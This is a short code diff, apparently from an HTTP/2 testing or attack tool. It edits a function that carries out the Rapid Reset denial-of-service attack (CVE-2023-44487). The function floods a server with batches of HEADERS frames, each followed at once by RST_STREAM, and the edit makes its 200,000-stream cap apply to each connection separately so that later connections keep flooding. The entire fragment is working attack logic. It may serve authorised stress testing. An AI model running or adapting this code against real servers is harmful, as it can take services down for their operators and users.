@@ -177,16 +177,18 @@ class Raw:
 
 def attack_rapid_reset(port, conn, out):
     """CVE-2023-44487: HEADERS then RST_STREAM, as fast as possible."""
+    n = 0   # per connection: the cap must not end later connections early
     while not conn.closed:
         batch = b""
         for _ in range(100):
             sid = conn.next_sid()
             batch += conn.headers(sid) + RstStreamFrame(sid, error_code=CANCEL).serialize()
         out["streams"] = out.get("streams", 0) + 100
+        n += 100
         if not conn.send(batch):
             break
         conn.poll(0)
-        if out["streams"] > 200000:
+        if n > 200000:
             break
 
 
